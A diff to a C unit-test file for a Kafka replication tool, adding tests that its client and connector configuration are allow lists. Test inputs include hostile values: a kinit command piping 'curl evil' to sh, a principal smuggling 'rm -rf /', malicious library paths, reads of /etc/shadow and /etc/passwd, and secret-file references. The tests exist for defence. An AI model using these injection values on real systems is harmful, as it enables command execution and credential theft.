@@ -27,7 +27,7 @@ static const char valid_topology[] =
 	"    sasl.mechanism: SCRAM-SHA-512\n"
 	"    sasl.username: kdr\n"
 	"    sasl.password: {valueFrom: {env: EAST_PASSWORD}}\n"
-	"    ssl.ca.location: /etc/kdr/ca.pem\n"
+	"    ssl.ca.location: {valueFrom: {env: EAST_CA_PATH}}\n"
 	"  connect:\n"
 	"    url: https://connect-east:8083\n"
 	"    auth: {bearerToken: {valueFrom: {file: /var/run/secrets/connect-token}}}\n"
@@ -413,7 +413,7 @@ static void test_connector_config_may_not_override_rendered_keys(void **state)
 		   "metadata: {name: dc-east}\n"
 		   "spec:\n"
 		   "  bootstrapServers: east-1:9092\n"
-		   "  clientConfig: {security.protocol: SSL, ssl.ca.location: /ca.pem}\n"
+		   "  clientConfig: {security.protocol: SSL, ssl.ca.location: {valueFrom: {env: CA}}}\n"
 		   DOC "kind: KafkaCluster\n"
 		   "metadata: {name: dc-west}\n"
 		   "spec:\n"
@@ -452,6 +452,9 @@ static void test_connector_config_may_not_override_rendered_keys(void **state)
 		   "spec.bootstrapServers of the source KafkaCluster; remove it\n"
 		   "t.yaml:30:39: error: spec.connectorConfig.source.cluster.security.protocol: set by kdr from "
 		   "spec.clientConfig.security.protocol of KafkaCluster 'dc-east'; remove it\n"
+		   "t.yaml:37:39: error: spec.connectorConfig.source.cluster.ssl.keystore.type: not a connector "
+		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
+		   "connectorConfig); remove it\n"
 		   "t.yaml:31:38: error: spec.connectorConfig.target.cluster.sasl.jaas.config: set by kdr from "
 		   "spec.clientConfig.sasl.username and sasl.password of KafkaCluster 'dc-west'; remove it\n"
 		   "t.yaml:32:45: error: spec.connectorConfig.target.cluster.ssl.truststore.location: set by kdr from "
@@ -460,6 +463,65 @@ static void test_connector_config_may_not_override_rendered_keys(void **state)
 		   "t.yaml:27:13: error: spec.connectorConfig.topics: set by kdr from spec.topics; remove it\n"
 		   "t.yaml:34:23: error: spec.connectorConfig.topics.blacklist: deprecated alias of topics.exclude, "
 		   "which kdr sets from spec.topicsExclude and spec.keepDefaultExcludes; remove it");
+}
+
+/*
+ * issue 14 item 5: spec.connectorConfig goes into the connector configs the
+ * Connect workers run; it is an allow list of MM2 and client tuning keys. A
+ * document may not load a class, a login module or a config provider, run
+ * kinit, read a worker's file or refer to one (${provider:...} values).
+ */
+static void test_connector_config_is_an_allow_list(void **state)
+{
+	(void)state;
+	check_yaml(TWO_CLUSTERS DOC "kind: ReplicationFlow\n"
+		   "metadata: {name: e2w}\n"
+		   "spec:\n"
+		   "  source: dc-east\n"
+		   "  target: dc-west\n"
+		   "  connectorConfig:\n"
+		   "    config.providers: file\n"
+		   "    config.providers.file.class: org.apache.kafka.common.config.provider.FileConfigProvider\n"
+		   "    producer.override.sasl.jaas.config: \"com.sun.security.auth.module.JndiLoginModule required;\"\n"
+		   "    consumer.override.sasl.login.class: evil.Login\n"
+		   "    source.cluster.sasl.kerberos.kinit.cmd: \"sh -c id\"\n"
+		   "    target.cluster.ssl.truststore.location: /etc/passwd\n"
+		   "    source.cluster.sasl.oauthbearer.token.endpoint.url: file:///etc/passwd\n"
+		   "    producer.interceptor.classes: evil.Interceptor\n"
+		   "    transforms: x\n"
+		   "    offset.lag.max: \"${file:/etc/kafka/secrets.properties:password}\"\n"
+		   "    refresh.topics.interval.seconds: \"60\"\n"
+		   "    producer.override.compression.type: zstd\n"
+		   "    source.consumer.fetch.min.bytes: \"65536\"\n"
+		   "    consumer.max.poll.records: \"500\"\n",
+		   KDR_EINVALID,
+		   "t.yaml:21:23: error: spec.connectorConfig.config.providers: not a connector property kdr passes to "
+		   "Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); remove it\n"
+		   "t.yaml:22:34: error: spec.connectorConfig.config.providers.file.class: not a connector property kdr "
+		   "passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); "
+		   "remove it\n"
+		   "t.yaml:24:41: error: spec.connectorConfig.consumer.override.sasl.login.class: not a connector "
+		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
+		   "connectorConfig); remove it\n"
+		   "t.yaml:30:21: error: spec.connectorConfig.offset.lag.max: a ${...} value is resolved by the Connect "
+		   "worker's config providers (files, environment); write the value itself\n"
+		   "t.yaml:28:35: error: spec.connectorConfig.producer.interceptor.classes: not a connector property kdr "
+		   "passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); "
+		   "remove it\n"
+		   "t.yaml:23:41: error: spec.connectorConfig.producer.override.sasl.jaas.config: not a connector "
+		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
+		   "connectorConfig); remove it\n"
+		   "t.yaml:25:45: error: spec.connectorConfig.source.cluster.sasl.kerberos.kinit.cmd: not a connector "
+		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
+		   "connectorConfig); remove it\n"
+		   "t.yaml:27:57: error: spec.connectorConfig.source.cluster.sasl.oauthbearer.token.endpoint.url: not a "
+		   "connector property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the "
+		   "README's connectorConfig); remove it\n"
+		   "t.yaml:26:45: error: spec.connectorConfig.target.cluster.ssl.truststore.location: not a connector "
+		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
+		   "connectorConfig); remove it\n"
+		   "t.yaml:29:17: error: spec.connectorConfig.transforms: not a connector property kdr passes to "
+		   "Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); remove it");
 }
 
 static void test_rendered_keys_api(void **state)
@@ -552,7 +614,7 @@ static void test_literal_secrets_in_client_config_are_warnings(void **state)
 		   "  clientConfig:\n"
 		   "    sasl.username: kdr\n"
 		   "    sasl.password: hunter2\n"
-		   "    ssl.key.location: /etc/kdr/key.pem\n"
+		   "    ssl.key.location: {valueFrom: {env: KEY_PATH}}\n"
 		   "    ssl.key.password: {valueFrom: {env: KEY_PASSWORD}}\n"
 		   "    sasl.oauthbearer.token.endpoint.url: https://idp/token\n"
 		   "  connect:\n"
@@ -564,6 +626,54 @@ static void test_literal_secrets_in_client_config_are_warnings(void **state)
 		   "t.yaml:15:25: warning: spec.connect.auth.bearerToken: secret written in clear; put it in an env "
 		   "var "
 		   "or a file: {valueFrom: {env: NAME}} or {valueFrom: {file: PATH}}");
+}
+
+/*
+ * issue 14 item 5 (critical): clientConfig is an allow list. A document may
+ * not make librdkafka run a command, load a library, log, or read a file whose
+ * path the document writes; each refusal names file:line:col and the key.
+ */
+static void test_client_config_is_an_allow_list(void **state)
+{
+	(void)state;
+	check_yaml(DOC "kind: KafkaCluster\n"
+		   "metadata: {name: dc-east}\n"
+		   "spec:\n"
+		   "  bootstrapServers: east-1:9092\n"
+		   "  clientConfig:\n"
+		   "    sasl.kerberos.kinit.cmd: \"sh -c 'curl evil | sh'\"\n"
+		   "    plugin.library.paths: /tmp/evil.so\n"
+		   "    ssl.ca.location: /etc/shadow\n"
+		   "    ssl.keystore.location: {valueFrom: {file: /etc/kdr/path}}\n"
+		   "    ssl.key.location: {valueFrom: {env: KDR_KEY_PATH}}\n"
+		   "    debug: all\n"
+		   "    ssl.engine.location: /tmp/engine.so\n"
+		   "    sasl.kerberos.principal: \"kdr; rm -rf /\"\n"
+		   "    bootstrap.servers: evil:9092\n"
+		   "    interceptors: x\n"
+		   "    security.protocol: SASL_SSL\n"
+		   "    ssl.ca.pem: {valueFrom: {file: /etc/kdr/ca.pem}}\n"
+		   "    socket.timeout.ms: \"30000\"\n"
+		   "    client.id: kdr\n",
+		   KDR_EINVALID,
+		   "t.yaml:16:24: error: spec.clientConfig.bootstrap.servers: set spec.bootstrapServers instead\n"
+		   "t.yaml:13:12: error: spec.clientConfig.debug: client logging is set from kdr's environment "
+		   "(KDR_DEBUG, KDR_RDKAFKA_DEBUG), not by a document\n"
+		   "t.yaml:17:19: error: spec.clientConfig.interceptors: not a client property kdr passes to librdkafka "
+		   "(allowed: security.protocol, sasl.*, ssl.* options that are not paths, timeouts, client.id, "
+		   "client.rack; see the README's clientConfig)\n"
+		   "t.yaml:9:27: error: spec.clientConfig.plugin.library.paths: librdkafka loads it as a library; a "
+		   "document may not set one\n"
+		   "t.yaml:8:30: error: spec.clientConfig.sasl.kerberos.kinit.cmd: librdkafka runs it as a command; a "
+		   "document may not set one\n"
+		   "t.yaml:15:30: error: spec.clientConfig.sasl.kerberos.principal: librdkafka puts it in the kinit "
+		   "command line; only letters, digits and ._-/@ are accepted\n"
+		   "t.yaml:10:22: error: spec.clientConfig.ssl.ca.location: a file path is taken from kdr's environment "
+		   "only: {valueFrom: {env: NAME}}, never written in a document\n"
+		   "t.yaml:14:26: error: spec.clientConfig.ssl.engine.location: librdkafka loads it as a library; a "
+		   "document may not set one\n"
+		   "t.yaml:11:5: error: spec.clientConfig.ssl.keystore.location: a file path is taken from kdr's "
+		   "environment only: {valueFrom: {env: NAME}}, never written in a document");
 }
 
 static void test_bootstrap_servers_are_host_port_lists(void **state)
@@ -754,6 +864,8 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_valid_topology_yields_no_diagnostics),
+		cmocka_unit_test(test_client_config_is_an_allow_list),
+		cmocka_unit_test(test_connector_config_is_an_allow_list),
 		cmocka_unit_test(test_names_must_be_dns_labels),
 		cmocka_unit_test(test_duplicate_names_name_both_places),
 		cmocka_unit_test(test_topic_names_must_be_legal_for_kafka),
